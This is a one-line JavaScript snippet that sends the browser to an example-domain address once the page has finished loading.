addEventListener("load", () => location.assign("https://elders.example/"));
